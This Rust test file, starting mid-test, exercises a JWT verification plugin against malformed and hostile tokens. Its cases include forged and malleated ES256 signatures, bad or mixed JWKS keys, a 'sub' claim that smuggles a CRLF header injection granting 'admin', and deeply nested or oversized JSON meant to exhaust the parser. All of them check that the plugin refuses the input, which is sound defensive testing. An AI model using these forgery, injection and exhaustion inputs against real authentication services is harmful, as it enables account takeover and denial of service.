    let high = Signature::from_scalars(sig.r(), -sig.s()).unwrap();
    refused(&mut p, "DER of the twin", &with_signature(high.to_der().as_bytes()), "invalid token signature");
    refused(&mut p, "DER cut to 64 bytes", &with_signature(&der.as_bytes()[..64]), "invalid token signature");
    still_serving(&mut p);
}

// --- 15. structure ---------------------------------------------------------------

#[test]
fn c15_exactly_three_segments_of_json_objects() {
    let good = good_token();
    let (h, rest) = good.split_once('.').unwrap();
    let (c, sig) = rest.split_once('.').unwrap();
    let jwe = testdata("jose-cookbook/rfc7520/5_5.key_agreement_using_ecdh-es_with_aes-cbc-hmac-sha2.json");
    let jwe_compact = jwe["output"]["compact"].as_str().unwrap().to_owned();
    assert_eq!(jwe_compact.split('.').count(), 5);
    let detached = testdata("jose-cookbook/rfc7520/4_5.signature_with_detached_content.json");
    let detached_compact = detached["output"]["compact"].as_str().unwrap().to_owned();
    let mut p = demo();
    for (what, token) in [
        ("two segments", format!("{h}.{c}")),
        ("one segment", h.to_owned()),
        ("four segments", format!("{good}.{sig}")),
        ("four segments, last empty", format!("{good}.")),
        ("five segments (our own JWE shape)", format!("{}.{c}.{sig}.{sig}.{sig}", seg(r#"{"alg":"ECDH-ES","enc":"A128GCM"}"#))),
        ("five segments (RFC 7520 5.5 JWE)", jwe_compact),
        ("empty payload (RFC 7520 4.5 detached content)", detached_compact),
        ("empty payload segment", format!("{h}..{sig}")),
        ("JSON serialization, base64url-wrapped", URL_SAFE_NO_PAD.encode(json!({"payload": c, "protected": h, "signature": sig}).to_string())),
        ("only dots", format!("eyJ{}", ".".repeat(100))),
    ] {
        refused(&mut p, what, &token, "malformed token");
    }
    // Validly signed, but a header or claims that are not one JSON object.
    let signed: Vec<(&str, Vec<u8>, Vec<u8>, &str)> = vec![
        ("header trailing garbage", br#"{"alg":"ES256"}xyz"#.to_vec(), CLAIMS.as_bytes().to_vec(), "malformed token header"),
        ("header two objects", br#"{"alg":"ES256"}{"alg":"ES256"}"#.to_vec(), CLAIMS.as_bytes().to_vec(), "malformed token header"),
        ("header invalid UTF-8", b"{\"alg\":\"ES256\",\"x\":\"\xff\xfe\"}".to_vec(), CLAIMS.as_bytes().to_vec(), "malformed token header"),
        ("kid with a lone surrogate escape", br#"{"alg":"ES256","kid":"\ud800"}"#.to_vec(), CLAIMS.as_bytes().to_vec(), "malformed token header"),
        ("header not JSON", br#"{"alg": ES256}"#.to_vec(), CLAIMS.as_bytes().to_vec(), "malformed token header"),
        ("claims an array", H_GOOD.as_bytes().to_vec(), format!("[{CLAIMS}]").into_bytes(), "malformed token claims"),
        ("claims a string", H_GOOD.as_bytes().to_vec(), br#""did:privy:harness-user""#.to_vec(), "malformed token claims"),
        ("claims trailing garbage", H_GOOD.as_bytes().to_vec(), format!("{CLAIMS},").into_bytes(), "malformed token claims"),
        ("claims invalid UTF-8", H_GOOD.as_bytes().to_vec(), CLAIMS.replace("dev-session", "dev-\u{1}").into_bytes().into_iter().map(|b| if b == 1 { 0xff } else { b }).collect(), "malformed token claims"),
        ("claims empty", H_GOOD.as_bytes().to_vec(), Vec::new(), "malformed token"),
    ];
    for (what, header, claims, message) in &signed {
        refused(&mut p, what, &sign_raw(&signing_key(), header, claims), message);
    }
    // A header that is a JSON array does not start `eyJ`: not a credential at all.
    refused(&mut p, "header an array", &sign_raw(&signing_key(), br#"["ES256"]"#, CLAIMS.as_bytes()), "the Bearer token is not a recognised credential");
    // The JSON serialization as is: its braces and quotes are not a Bearer token.
    refused_as(&mut p, "JSON serialization", &json!({"payload": c, "protected": h, "signature": sig}).to_string(), "the Bearer token has characters RFC 6750 does not allow", "invalid_request");
    still_serving(&mut p);
}

// --- 16. bad verification keys -----------------------------------------------------

const P384_PEM: &str = "-----BEGIN PUBLIC KEY-----\nMHYwEAYHKoZIzj0CAQYFK4EEACIDYgAEWEyvokbV2lxhjtdU9/q/SHiYJczWi5/Q\n4kd5teSpnLYPa51lnyENIPzIRmdURceW8x1oguYQ4VeBYVKFHyAEvc27l9J6b6Ka\nxBf/bin/ptjCiKZoHiC9YVbz+9pce07u\n-----END PUBLIC KEY-----\n";
const RSA_PEM: &str = "-----BEGIN PUBLIC KEY-----\nMIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDh+Ji1sAoRsSKuG4zb1dzjBbIe\nhmRUh1ClNGUC6Mno+SG7RKFkA7Vs/W7ecXe8ALX8RydXbu7U4MZMnjMPvj7J+Eud\nrXHOhRsiyP9dEqwMLjrh//nWtyVVAigB8WhNMBUiBLR3FO3O+CujqQwdYkFeEyDP\nvzp5DdaM6QfXu1RrvQIDAQAB\n-----END PUBLIC KEY-----\n";
const ED25519_PEM: &str = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAWZbmTnuux5odcmnb3bW4YCQREBTUp1tr7XM4jwS44iY=\n-----END PUBLIC KEY-----\n";

/// The error log lines of a plugin that refused its configuration.
fn refused_config(cfg: &Value) -> String {
    match Plugin::start(wasm(), PluginOptions::new(cfg.to_string()).clock_secs(NOW)) {
        Err(StartError::ConfigRefused { logs }) => {
            logs.iter().filter(|l| l.level == LogLevel::Error).map(|l| l.message.as_str()).collect::<Vec<_>>().join("\n")
        }
        Err(e) => panic!("expected a refused config, got {e}"),
        Ok(_) => panic!("a bad key was accepted: {cfg}"),
    }
}

/// A pinned key that is not a P-256 public key: the plugin refuses to load
/// and the log line says which field and why.
#[test]
fn c16_a_bad_pinned_key_refuses_to_load_and_says_why() {
    use p256::pkcs8::{EncodePrivateKey, LineEnding};
    let pem = tokens::public_pem(&signing_key()).unwrap();
    // The same SPKI with the last byte of y changed: not on the curve.
    let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
    let mut der = STANDARD.decode(body).unwrap();
    *der.last_mut().unwrap() ^= 1;
    let off_curve = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&der));
    let private = signing_key().to_pkcs8_pem(LineEnding::LF).unwrap().to_string();
    let truncated = pem[..pem.len() / 2].to_owned();
    for (what, key) in [
        ("garbage", "not a key".to_owned()),
        ("empty", String::new()),
        ("P-384", P384_PEM.to_owned()),
        ("RSA", RSA_PEM.to_owned()),
        ("Ed25519", ED25519_PEM.to_owned()),
        ("point not on the curve", off_curve),
        ("a private key", private),
        ("truncated", truncated),
    ] {
        let mut cfg = demo_config();
        cfg["privy"]["verification_key"] = json!(key);
        let log = refused_config(&cfg);
        assert!(log.contains("invalid plugin configuration"), "{what}: {log}");
        assert!(log.contains("$.privy.verification_key"), "{what}: {log}");
        assert!(log.contains("not a P-256 public key in PEM (SPKI) form"), "{what}: {log}");
        // The log never shows key material.
        assert!(!log.contains("MIG") && !log.contains("MHY"), "{what}: {log}");
    }
}

/// JWKS documents from Wycheproof's `json_web_key_test.json` (groups
/// invalid_point, wrong_curve, wrong_kty, invalid_use, wrong_algorithm,
/// invalid_algorithm) and our own (duplicate kid, a private part, key_ops
/// without verify, an RSA-only set, a P-521 key from RFC 7520 §3.1): each
/// refused at load, with the reason.
fn bad_jwks_documents() -> Vec<(String, Value, &'static str)> {
    let w = testdata("wycheproof/json_web_key_test.json");
    let mut out: Vec<(String, Value, &'static str)> = Vec::new();
    for g in w["testGroups"].as_array().unwrap() {
        let comment = g["comment"].as_str().unwrap_or_default();
        let why = match comment {
            "invalid_point" => "EC key is not a point on P-256",
            "wrong_curve" | "wrong_kty" | "invalid_use" | "wrong_algorithm" | "invalid_algorithm" => "no ES256 (EC P-256, use=sig) key in the JWKS",
            _ => continue,
        };
        out.push((format!("wycheproof {comment}"), g["public"].clone(), why));
    }
    assert_eq!(out.len(), 6, "the Wycheproof groups moved");
    let live = jwk("k-live", &signing_key());
    let mut with_d = live.clone();
    with_d["d"] = json!(URL_SAFE_NO_PAD.encode([7u8; 32]));
    let mut enc_ops = live.clone();
    enc_ops["key_ops"] = json!(["encrypt"]);
    let p521 = testdata("jose-cookbook/rfc7520/3_1.ec_public_key.json");
    out.extend([
        ("duplicate kid".to_owned(), json!({"keys": [live.clone(), live.clone()]}), "JWKS names kid \"k-live\" twice"),
        ("a private part".to_owned(), json!({"keys": [with_d]}), "a key has a private part (\"d\")"),
        ("key_ops without verify".to_owned(), json!({"keys": [enc_ops]}), "no ES256 (EC P-256, use=sig) key in the JWKS"),
        ("RSA only".to_owned(), json!({"keys": [{"kty": "RSA", "n": "AQAB", "e": "AQAB"}]}), "no ES256 (EC P-256, use=sig) key in the JWKS"),
        ("P-521 (RFC 7520 3.1)".to_owned(), json!({"keys": [p521]}), "no ES256 (EC P-256, use=sig) key in the JWKS"),
        ("short coordinates".to_owned(), json!({"keys": [{"kty": "EC", "crv": "P-256", "x": "AQAB", "y": "AQAB"}]}), "P-256 coordinates are 32 bytes"),
        ("not a key set".to_owned(), json!([live]), "expected an object with a \"keys\" array"),
        ("a key that is not an object".to_owned(), json!({"keys": ["k-live"]}), "every key must be an object"),
    ]);
    out
}

#[test]
fn c16_a_bad_configured_jwks_refuses_to_load_and_says_why() {
    for (what, doc, why) in bad_jwks_documents() {
        let mut cfg = demo_config();
        let privy = cfg["privy"].as_object_mut().unwrap();
        privy.remove("verification_key");
        privy.insert("jwks".into(), doc);
        let log = refused_config(&cfg);
        assert!(log.contains("$.privy.jwks"), "{what}: {log}");
        assert!(log.contains(why), "{what}: expected {why:?} in {log}");
    }
}

/// A fetched JWKS that is bad in any of those ways (or not JSON, too big, an
/// error status) is refused with a warning, and the last good keys keep
/// verifying; keys the bad document carried are never used.
#[test]
fn c16_a_bad_fetched_jwks_is_refused_and_the_last_good_keys_keep_serving() {
    let mut p = start(&fetching_config(3600));
    let first = p.pending_callouts().into_iter().next().expect("a fetch at start");
    p.answer(first.token, CallAnswer::json(200, &json!({"keys": [jwk("k-live", &signing_key())]}))).unwrap();
    accepted(&mut p, "after the first fetch", &live_token());

    let mut docs: Vec<(String, CallAnswer, String)> =
        bad_jwks_documents().into_iter().map(|(what, doc, why)| (what, CallAnswer::json(200, &doc), why.to_owned())).collect();
    docs.extend([
        ("500".to_owned(), CallAnswer::raw(500, b"{\"error\":\"internal\"}"), "status 500".to_owned()),
        ("404".to_owned(), CallAnswer::raw(404, b""), "status 404".to_owned()),
        ("HTML".to_owned(), CallAnswer::raw(200, b"<html>maintenance</html>"), "not JSON".to_owned()),
        ("empty".to_owned(), CallAnswer::raw(200, b""), "not JSON".to_owned()),
        ("huge".to_owned(), CallAnswer::raw(200, format!("{{\"keys\":[],\"pad\":\"{}\"}}", "a".repeat(70_000)).as_bytes()), "document too large".to_owned()),
        ("no answer".to_owned(), CallAnswer::Failed, "no answer".to_owned()),
        ("an empty key set".to_owned(), CallAnswer::json(200, &json!({"keys": []})), "no ES256 (EC P-256, use=sig) key in the JWKS".to_owned()),
    ]);
    for (what, answer, why) in docs {
        p.advance(std::time::Duration::from_secs(10));
        p.tick().unwrap();
        let fetch = p.pending_callouts().into_iter().next().unwrap_or_else(|| panic!("{what}: no refresh"));
        assert_eq!(fetch.upstream, "privy_api");
        p.answer(fetch.token, answer).unwrap();
        let last = p.logs().iter().rev().find(|l| l.level == LogLevel::Warn).map(|l| l.message.clone()).unwrap_or_default();
        assert!(
            last.starts_with("JWKS fetch failed (") && last.contains(&why) && last.ends_with("); keeping the last good keys"),
            "{what}: expected {why:?} in the last warning, got {last:?}"
        );
        accepted(&mut p, &format!("last good keys after {what}"), &live_token());
    }
    // A document mixing a good key with an encryption key: the good one is
    // taken, the `use: enc` one never verifies anything.
    let attacker = attacker_key();
    let mut enc = jwk("k-enc", &attacker);
    enc["use"] = json!("enc");
    p.advance(std::time::Duration::from_secs(10));
    p.tick().unwrap();
    let fetch = p.pending_callouts().into_iter().next().unwrap();
    p.answer(fetch.token, CallAnswer::json(200, &json!({"keys": [jwk("k-live", &signing_key()), enc]}))).unwrap();
    assert!(p.log_text(LogLevel::Info).contains("JWKS fetched: 1 ES256 key(s)"));
    let forged = sign(&attacker, r#"{"alg":"ES256","kid":"k-enc"}"#, CLAIMS);
    let mut s = p.http().unwrap();
    s.request(&request("GET", ACCOUNT, &[("authorization", &format!("Bearer {forged}"))])).unwrap();
    // The unknown kid may refetch once (cooldown 3600 s, first time): answer with the same set.
    if let Some(c) = s.pending_callouts().first().cloned() {
        let mut enc = jwk("k-enc", &attacker);
        enc["use"] = json!("enc");
        s.answer(c.token, CallAnswer::json(200, &json!({"keys": [jwk("k-live", &signing_key()), enc]}))).unwrap();
    }
    let r = s.local_reply().expect("the enc key must not verify");
    assert_eq!((r.status, r.json()["message"].clone()), (401, json!("token signed by an unknown key")));
    s.close().unwrap();
    accepted(&mut p, "after the mixed set", &live_token());
    assert!(p.crashed().is_none());
}

/// JWKS fetching configured, no pinned key, and the first fetch failed: there
/// are no keys at all. A token is then 401 `token signed by an unknown key`
/// (after at most one refetch per cooldown), never a 5xx and never a pass;
/// the VM keeps serving and recovers on the next good fetch.
#[test]
fn c16_no_good_keys_at_all_is_401_and_the_vm_lives() {
    let live = sign(&signing_key(), r#"{"alg":"ES256","kid":"k-live"}"#, CLAIMS);
    let no_kid = good_token();
    let mut p = start(&fetching_config(30));
    let first = p.pending_callouts().into_iter().next().expect("a fetch at start");
    p.answer(first.token, CallAnswer::raw(503, b"no healthy upstream")).unwrap();
    assert!(p.log_text(LogLevel::Warn).contains("JWKS fetch failed (status 503); keeping the last good keys"));
    // The first token with a kid we do not know refetches at once; the fetch fails too.
    let mut s = p.http().unwrap();
    s.request(&request("POST", SMS, &[("authorization", &format!("Bearer {live}"))])).unwrap();
    let refetch = s.pending_callouts().into_iter().next().expect("an unknown kid refetches");
    s.answer(refetch.token, CallAnswer::Failed).unwrap();
    let r = s.local_reply().expect("refused");
    assert_eq!(r.status, 401);
    assert_eq!(r.json(), json!({"success": false, "error": "unauthorized", "message": "token signed by an unknown key"}));
    assert_eq!(
        r.header("www-authenticate").as_deref(),
        Some("Bearer realm=\"dialtone\", error=\"invalid_token\", error_description=\"token signed by an unknown key\"")
    );
    s.close().unwrap();
    // Within the cooldown: 401 at once, no fetch; a token without kid the same.
    refused(&mut p, "no keys, within the cooldown", &live, "token signed by an unknown key");
    refused(&mut p, "no keys, no kid", &no_kid, "token signed by an unknown key");
    // Public routes are unaffected.
    let mut s = p.http().unwrap();
    s.request(&request("GET", "/healthz", &[])).unwrap();
    assert!(matches!(s.outcome(), Outcome::Passed(_)));
    s.close().unwrap();
    // The retry timer (10 s after a failure) brings the keys.
    p.advance(std::time::Duration::from_secs(10));
    p.tick().unwrap();
    let retry = p.pending_callouts().into_iter().next().expect("a retry 10 s after the failure");
    p.answer(retry.token, CallAnswer::json(200, &json!({"keys": [jwk("k-live", &signing_key())]}))).unwrap();
    accepted(&mut p, "after the recovery", &live_token());
    assert!(p.crashed().is_none());
}

// --- 17. claims --------------------------------------------------------------------

/// All validly signed by the real key; only the claims are wrong.
#[test]
fn c17_privy_claims() {
    let with = |f: &dyn Fn(&mut Value)| {
        let mut c = claims();
        f(&mut c);
        c.to_string()
    };
    let remove = |name: &'static str| with(&move |c: &mut Value| { c.as_object_mut().unwrap().remove(name); });
    let cases: Vec<(&str, String, &str)> = vec![
        ("expired an hour ago", with(&|c| { c["iat"] = json!(NOW - 7200); c["exp"] = json!(NOW - 3600) }), "token expired"),
        ("expired at the leeway's edge", with(&|c| c["exp"] = json!(NOW - 60)), "token expired"),
        ("nbf in the future", with(&|c| c["nbf"] = json!(NOW + 600)), "token not yet valid"),
        ("iat in the future", with(&|c| c["iat"] = json!(NOW + 600)), "token issued in the future"),
        ("iss another issuer", with(&|c| c["iss"] = json!("https://privy.io")), "token issuer is not accepted"),
        ("iss case", with(&|c| c["iss"] = json!("Privy.io")), "token issuer is not accepted"),
        ("iss missing", remove("iss"), "token issuer is not accepted"),
        ("aud another app", with(&|c| c["aud"] = json!("another-app")), "token audience is not this app"),
        ("aud array without us", with(&|c| c["aud"] = json!(["a", "b"])), "token audience is not this app"),
        ("aud empty array", with(&|c| c["aud"] = json!([])), "token audience is not this app"),
        ("aud a number", with(&|c| c["aud"] = json!(1)), "token audience is not this app"),
        ("aud missing", remove("aud"), "token audience is not this app"),
        ("exp missing", remove("exp"), "token is missing a required claim"),
        // NumericDates are parsed by jwt-compact: a wrong type is malformed.
        ("exp a string", with(&|c| c["exp"] = json!("1768467600")), "malformed token claims"),
        ("exp null", with(&|c| c["exp"] = json!(null)), "malformed token claims"),
        ("iat missing", remove("iat"), "token is missing a required claim"),
        ("nbf a string", with(&|c| c["nbf"] = json!("0")), "malformed token claims"),
        ("sub missing", remove("sub"), "token is missing a required claim"),
        ("sub a number", with(&|c| c["sub"] = json!(42)), "token is missing a required claim"),
        ("sub empty", with(&|c| c["sub"] = json!("")), "token is missing a required claim"),
        ("sub with a header injection", with(&|c| c["sub"] = json!("did:privy:x\r\nx-dialtone-auth-method: admin")), "token is missing a required claim"),
        ("sub with a space", with(&|c| c["sub"] = json!("did:privy:x y")), "token is missing a required claim"),
        ("sub over 256 bytes", with(&|c| c["sub"] = json!(format!("did:privy:{}", "x".repeat(250)))), "token is missing a required claim"),
        ("sid missing", remove("sid"), "token is missing a required claim"),
    ];
    let mut p = demo();
    for (what, c, message) in &cases {
        refused(&mut p, what, &sign(&signing_key(), H_GOOD, c), message);
    }
    // Signatures are compared before the claims: bad claims *and* a bad
    // signature say "signature", never which claim was wrong.
    let expired_forged = sign(&attacker_key(), H_GOOD, &with(&|c| c["exp"] = json!(NOW - 3600)));
    refused(&mut p, "expired and forged", &expired_forged, "invalid token signature");
    // Accepted: aud as an array that contains the app id; a fractional exp.
    accepted(&mut p, "aud array with us", &sign(&signing_key(), H_GOOD, &with(&|c| c["aud"] = json!(["other", APP_ID]))));
    accepted(&mut p, "fractional exp", &sign(&signing_key(), H_GOOD, &with(&|c| c["exp"] = json!((NOW + 10) as f64 + 0.5))));
    still_serving(&mut p);
}

// --- 18. resource exhaustion ---------------------------------------------------------

#[test]
fn c18_huge_and_deep_tokens_are_bounded() {
    let mut p = demo();
    // Over the Authorization cap (4096 bytes by default): refused before any decoding.
    let huge_kid = sign(&signing_key(), &json!({"alg": "ES256", "kid": "k".repeat(8192)}).to_string(), CLAIMS);
    for (what, token) in [
        ("8 KiB kid", huge_kid),
        ("4097 bytes", format!("eyJ{}", "A".repeat(4094))),
        ("1 MiB", format!("eyJ{}", "A".repeat(1 << 20))),
        ("64 KiB of dots", format!("eyJ{}", ".".repeat(65_536))),
    ] {
        refused_as(&mut p, what, &token, "the Bearer token is too long", "invalid_request");
    }
    // Exactly at the cap: decoded, and refused for what it is.
    let at_cap = format!("eyJ{}", "A".repeat(4093));
    assert_eq!(at_cap.len(), 4096);
    refused(&mut p, "4096 bytes", &at_cap, "malformed token");
    // Deep JSON within the cap where a claim or header member is parsed:
    // serde_json's recursion limit (128), no stack overflow.
    let deep_claims = CLAIMS.replace(r#""aud":"dialtone-demo-app""#, &format!(r#""aud":{}"{APP_ID}"{}"#, "[".repeat(1200), "]".repeat(1200)));
    let token = sign(&signing_key(), H_GOOD, &deep_claims);
    assert!(token.len() <= 4096, "{}", token.len());
    refused(&mut p, "1200-deep aud", &token, "malformed token claims");
    let deep_header = format!(r#"{{"alg":"ES256","kid":{}"k"{}}}"#, "{\"a\":".repeat(300), "}".repeat(300));
    let token = sign(&signing_key(), &deep_header, CLAIMS);
    assert!(token.len() <= 4096, "{}", token.len());
    refused(&mut p, "300-deep kid", &token, "malformed token header");
    // Deep JSON in a member nobody reads: jwt-compact's claims (serde's
    // flatten) buffer unknown members, within the same recursion limit, so
    // the (validly signed) token is refused, not a stack overflow.
    let deep_unknown = CLAIMS.replace('}', &format!(r#","x":{}{}}}"#, "[".repeat(1200), "]".repeat(1200)));
    refused(&mut p, "1200-deep unknown claim", &sign(&signing_key(), H_GOOD, &deep_unknown), "malformed token claims");
    let shallow_unknown = CLAIMS.replace('}', &format!(r#","x":{}{}}}"#, "[".repeat(100), "]".repeat(100)));
    accepted(&mut p, "100-deep unknown claim", &sign(&signing_key(), H_GOOD, &shallow_unknown));
    // A huge number where a date should be.
    let token = sign(&signing_key(), H_GOOD, &CLAIMS.replace("1768467600", &"9".repeat(300)));
    refused(&mut p, "300-digit exp", &token, "malformed token claims");
    let token = sign(&signing_key(), H_GOOD, &CLAIMS.replace("1768467600", "1e999"));
    refused(&mut p, "exp 1e999", &token, "malformed token claims");
    still_serving(&mut p);

    // With the cap raised to its maximum (16 KiB), deeper JSON still cannot hurt.
    let mut cfg = demo_config();
    cfg["max_token_bytes"] = json!(16_384);
    let mut p = start(&cfg);
    let deep_header = format!(r#"{{"alg":"ES256","crit":{}{}}}"#, "[".repeat(5000), "]".repeat(5000));
    let token = sign(&signing_key(), &deep_header, CLAIMS);
    assert!(token.len() <= 16_384, "{}", token.len());
    refused(&mut p, "5000-deep crit", &token, "malformed token header");
    // An unknown header member is skipped by serde_json without recursion
    // (its ignore loop keeps the nesting on the heap): the validly signed
    // token passes, and the VM lives. The same member signed by anyone else
    // is refused on its signature.
    let deep_unknown = format!(r#"{{"alg":"ES256","x":{}{}}}"#, "[".repeat(5000), "]".repeat(5000));
    accepted(&mut p, "5000-deep unknown header member", &sign(&signing_key(), &deep_unknown, CLAIMS));
    refused(&mut p, "5000-deep unknown header member, forged", &sign(&attacker_key(), &deep_unknown, CLAIMS), "invalid token signature");
    let many_members = format!(r#"{{"alg":"ES256",{}"z":0}}"#, (0..900).map(|i| format!("\"m{i}\":0,")).collect::<String>());
    let token = sign(&signing_key(), &many_members, CLAIMS);
    assert!(token.len() <= 16_384, "{}", token.len());
    accepted(&mut p, "900 unknown header members (ignored)", &token);
    let big_kid = sign(&signing_key(), &json!({"alg": "ES256", "kid": "k".repeat(8192)}).to_string(), CLAIMS);
    refused(&mut p, "8 KiB kid under a 16 KiB cap", &big_kid, "malformed token header");
    still_serving(&mut p);
}

fn testdata(rel: &str) -> Value {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/vectors").join(rel);
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))).unwrap()
}
